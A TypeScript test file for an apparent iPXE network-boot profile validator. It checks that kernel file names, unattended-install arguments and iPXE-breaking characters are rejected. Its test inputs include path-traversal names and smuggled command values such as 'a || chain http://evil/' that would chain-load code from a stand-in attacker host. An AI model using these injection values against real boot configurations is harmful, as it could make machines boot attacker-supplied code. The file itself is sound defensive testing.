import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ProfileSettings } from '../../src/domain/settings.ts';
import {
  kernelArgumentProblems,
  splitKernelArguments,
  unquoteKernelWord,
} from '../../src/profiles/kernel-arguments.ts';
import { PROFILE_KINDS, profileKind } from '../../src/profiles/registry.ts';
import { findUnattended } from '../../src/profiles/unattended-arguments.ts';

function live(change: Partial<ProfileSettings> = {}): ProfileSettings {
  return {
    name: 'rescue',
    kind: 'live',
    kernel: 'debian/linux',
    initrds: ['debian/initrd.gz'],
    arguments: '',
    ...change,
  };
}

function problems(profile: ProfileSettings): readonly { path: string; message: string; mend?: string }[] {
  return profileKind(profile.kind)?.validate(profile) ?? [];
}

test('every kind has a word of its own', () => {
  assert.equal(new Set(PROFILE_KINDS.map((kind) => kind.kind)).size, PROFILE_KINDS.length);
  assert.equal(profileKind('windows'), undefined);
});

test('a live profile that is right boots what it names', () => {
  const profile = live({ arguments: ' console=ttyS0,115200   quiet\n' });
  assert.deepEqual(problems(profile), []);
  assert.deepEqual(profileKind('live')?.boot(profile), {
    action: 'kernel',
    kernel: 'debian/linux',
    initrds: ['debian/initrd.gz'],
    arguments: 'console=ttyS0,115200 quiet',
  });
});

test('a live profile without a kernel says how to name one', () => {
  const { kernel: _, ...rest } = live();
  const [problem] = problems(rest);
  assert.equal(problem?.path, 'profiles.rescue.kernel');
  assert.match(problem?.mend ?? '', /assetsDir/);
});

for (const name of [
  '../linux',
  '/linux',
  'a//b',
  'a b',
  'a;b',
  'a$b',
  'a%2fb',
  '-linux',
  '.hidden',
  'a/../b',
  'a\\b',
  "a'b",
  'ä',
]) {
  test(`a file can't be called ${name}`, () => {
    assert.equal(problems(live({ kernel: name }))[0]?.path, 'profiles.rescue.kernel');
    assert.equal(problems(live({ initrds: ['ok', name] }))[0]?.path, 'profiles.rescue.initrds[1]');
  });
}

const UNATTENDED = [
  'auto=true',
  'auto',
  'auto-install/enable=true',
  'preseed/url=http://10.77.0.1/x.cfg',
  'preseed/file=/x',
  'url=http://10.77.0.1/di.cfg',
  'file=/cdrom/preseed/ubuntu.seed',
  'partman-auto/disk=/dev/sda',
  'autoinstall',
  'ds=nocloud',
  'ds=nocloud;s=http://10.77.0.1/seed/',
  'ds=nocloud-net;s=http://10.77.0.1/seed/',
  'cloud-config-url=http://10.77.0.1/x',
  'inst.ks=http://10.77.0.1/ks.cfg',
  'ks=http://10.77.0.1/ks.cfg',
  'inst.ks',
  'ks',
  'force-ai',
  'force-ai=/ai.yaml',
  'force-curtin',
  'automatic-ubiquity',
  'autoyast=http://10.77.0.1/a.xml',
  'AutoYaST2=http://10.77.0.1/a.xml',
  'inst.auto=http://10.77.0.1/a.json',
  'coreos.inst.install_dev=/dev/sda',
  'ignition.config.url=http://10.77.0.1/i.ign',
  'talos.config=http://10.77.0.1/t.yaml',
  'proxmox-start-auto-installer',
  'harvester.install.automatic=true',
  '"auto=true"',
  'url="http://10.77.0.1/a b"',
  'AUTO=TRUE',
];

for (const word of UNATTENDED) {
  test(`a live profile refuses ${word}: it would install at every boot`, () => {
    const found = problems(live({ arguments: `console=ttyS0 ${word} quiet` }));
    assert.ok(
      found.some((problem) => problem.message.includes('starts an installation')),
      JSON.stringify(found),
    );
    assert.ok(found.every((problem) => problem.path === 'profiles.rescue.arguments' && problem.mend !== undefined));
  });
}

test("arguments of live systems are not taken for an installer's", () => {
  const harmless =
    'boot=live fetch=http://10.77.0.1/fs.squashfs root=live:http://x/y inst.stage2=http://x rescue rd.live.image ' +
    'autologin kssendmac=1 audit=0 memtest=4 ip=dhcp netboot=nfs console=ttyS0,115200n8 --- quiet systemd.unit=rescue.target ' +
    'ro profile=x dsa=1 nomodeset iommu=pt pci=realloc=off';
  assert.deepEqual(findUnattended(splitKernelArguments(harmless)), []);
  assert.deepEqual(problems(live({ arguments: harmless })), []);
});

const INEXPRESSIBLE = [
  ['a line break', 'quiet\nchain http://evil/'],
  ['a tab', 'a\tb'],
  ['a letter beyond ASCII', 'name=ä'],
  ['an iPXE setting', `x=\${net0/mac}`],
  ['an open iPXE setting', 'x=${'],
  ['an iPXE comment', 'a #b'],
  ['an iPXE alternative', 'a || chain http://evil/'],
  ['an iPXE conjunction', 'a && b'],
  ['an iPXE separator', 'a ; b'],
  ['a separator within quotes', 'x="a || b"'],
  ['several spaces within quotes', 'x="a  b"'],
  ['a backslash', 'x=\\\\server'],
  ['a single quote', "x='a'"],
  ['a quote without its partner', 'x="a'],
  ['a quote in the middle of a value', 'x=a"b c"'],
  ['initrd=, which the script writes', 'initrd=foo'],
  ['more than the kernel takes', 'x'.repeat(1801)],
] as const;

for (const [what, text] of INEXPRESSIBLE) {
  test(`arguments with ${what} are refused when the configuration is read`, () => {
    assert.notDeepEqual(kernelArgumentProblems(text), []);
    assert.ok(kernelArgumentProblems(text).every((problem) => problem.mend !== ''));
  });
}

test('a value with a space keeps its meaning in both languages', () => {
  assert.deepEqual(kernelArgumentProblems('dyndbg="file a.c +p" x=a;b$c#d'), []);
  assert.deepEqual(splitKernelArguments('dyndbg="file a.c +p" quiet'), ['dyndbg="file a.c +p"', 'quiet']);
  assert.equal(unquoteKernelWord('dyndbg="file a.c +p"'), 'dyndbg=file a.c +p');
});

test('a local profile has nothing to load', () => {
  const local = live({ name: 'off', kind: 'local', arguments: 'quiet' });
  assert.deepEqual(
    problems(local).map((problem) => problem.path),
    ['profiles.off.kernel', 'profiles.off.initrds', 'profiles.off.arguments'],
  );
  assert.deepEqual(profileKind('local')?.boot(local), { action: 'disk' });
});
